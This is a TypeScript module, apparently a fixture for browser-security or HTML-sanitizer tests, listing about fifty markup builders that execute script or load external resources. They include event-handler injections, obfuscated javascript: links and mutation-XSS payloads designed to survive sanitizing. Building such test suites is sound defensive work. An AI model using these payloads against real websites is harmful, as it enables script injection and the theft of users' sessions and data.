// Ways in which markup runs script or asks for something outside, in this browser when nothing stands in their way.
// `vectors.test.ts` shows of each that it does.

export interface Vector {
  name: string;
  /** Markup that calls `run` or asks for something below `address`. `run` holds neither blanks nor double quotes. */
  markup: (run: string, address: string) => string;
}

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
const image = (run: string): string => `<img src=x onerror="${run}">`;
const bareImage = (run: string): string => `<img src=x onerror=${run}>`;

const make: Record<string, Vector['markup']> = {
  script: (run) => `<script>${run}</script>`,
  'script-src': (_run, address) => `<script src="${address}/x.js"></script>`,
  'script-module': (_run, address) => `<script type="module">import '${address}/x.js'</script>`,
  'image-error': (run) => image(run),
  'image-src': (_run, address) => `<img src="${address}/x.png" alt="">`,
  'image-srcset': (_run, address) => `<img srcset="${address}/x.png 1x" alt="">`,
  'picture-source': (_run, address) =>
    `<picture><source srcset="${address}/x.png"><img alt=""></picture>`,
  'input-image': (_run, address) => `<input type="image" src="${address}/x.png">`,
  'video-poster': (_run, address) => `<video poster="${address}/x.png"></video>`,
  'video-src': (_run, address) => `<video src="${address}/x.mp4" autoplay></video>`,
  'audio-error': (run) => `<audio><source src=x onerror="${run}"></audio>`,
  'body-background': (_run, address) =>
    `<table background="${address}/x.png"><tr><td>x</td></tr></table>`,
  'svg-load': (run) => `<svg onload="${run}"></svg>`,
  'svg-script': (run) => `<svg><script>${run}</script></svg>`,
  'svg-script-href': (_run, address) => `<svg><script href="${address}/x.js"></script></svg>`,
  'svg-image': (_run, address) => `<svg><image href="${address}/x.png"/></svg>`,
  'svg-foreign': (run) => `<svg><foreignObject>${image(run)}</foreignObject></svg>`,
  'svg-animate': (run) => `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  'svg-link': (run) => `<svg><a href="javascript:${run}"><text y="20">open</text></a></svg>`,
  'math-style': (run) =>
    `<math><mtext><table><mglyph><style></style>${image(run)}</mglyph></table></mtext></math>`,
  'frame-src': (_run, address) => `<iframe src="${address}/x.html"></iframe>`,
  'frame-script': (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  'frame-srcdoc': (run) =>
    `<iframe srcdoc="${escaped(`<script>parent.${run}</script>`)}"></iframe>`,
  'frame-load': (run) => `<iframe onload="${run}"></iframe>`,
  object: (_run, address) => `<object data="${address}/x.html"></object>`,
  embed: (_run, address) => `<embed src="${address}/x.html">`,
  'meta-refresh': (_run, address) =>
    `<meta http-equiv="refresh" content="0;url=${address}/x.html">`,
  'link-style': (_run, address) => `<link rel="stylesheet" href="${address}/x.css">`,
  'link-preload': (_run, address) => `<link rel="preload" as="image" href="${address}/x.png">`,
  'link-prefetch': (_run, address) => `<link rel="prefetch" href="${address}/x.html">`,
  base: (_run, address) => `<base href="${address}/"><img src="x.png" alt="">`,
  'form-focus': (run) => `<form><input autofocus onfocus="${run}"></form>`,
  'form-action': (_run, address) => `<form action="${address}/x.html"><button>open</button></form>`,
  formaction: (run) => `<form><button formaction="javascript:${run}">open</button></form>`,
  'style-import': (_run, address) => `<style>@import url(${address}/x.css);</style>`,
  'style-attribute': (_run, address) => `<p style="background:url(${address}/x.png)">x</p>`,
  'style-font': (_run, address) =>
    `<style>@font-face{font-family:own;src:url(${address}/x.woff2)}</style><p style="font-family:own">x</p>`,
  'style-animation': (run) =>
    `<style>@keyframes own{}</style><p style="animation:own 1s" onanimationstart="${run}">x</p>`,
  details: (run) => `<details open ontoggle="${run}">x</details>`,
  'click-handler': (run) => `<p class="click" onclick="${run}">open</p>`,
  'script-link': (run) => `<a href="javascript:${run}">open</a>`,
  'script-link-tab': (run) => `<a href="java\tscript:${run}">open</a>`,
  'script-link-control': (run) => `<a href="&#1;javascript:${run}">open</a>`,
  'script-link-entities': (run) => `<a href="&#x6a;avascript&colon;${run}">open</a>`,
  'script-link-case': (run) => `<a href=" JaVaScRiPt:${run}">open</a>`,
  'link-ping': (_run, address) => `<a href="#here" ping="${address}/x">open</a>`,
  'link-away': (_run, address) => `<a href="${address}/x.html">open</a>`,
  'mutated-noscript': (run) => `<noscript><p title="</noscript>${bareImage(run)}"></noscript>`,
  'mutated-xmp': (run) => `<xmp><p title="</xmp>${bareImage(run)}"></xmp>`,
  'mutated-title': (run) =>
    `<svg><title><style><a title="</style>${bareImage(run)}"></a></style></title></svg>`,
  'mutated-comment': (run) => `<!--><!-->${bareImage(run)}-->`,
  'mutated-svg-style': (run) =>
    `<svg></p><style><a id="</style>${bareImage(run)}"></a></style></svg>`,
  'mutated-math-form': (run) =>
    `<form><math><mtext></form><form><mglyph><style></math>${bareImage(run)}</style></mglyph></form></mtext></math></form>`,
  'mutated-template': (run) => `<template><s></template>${bareImage(run)}</s></template>`
};

export const vectors: readonly Vector[] = Object.entries(make).map(([name, markup]) => ({
  name,
  markup
}));
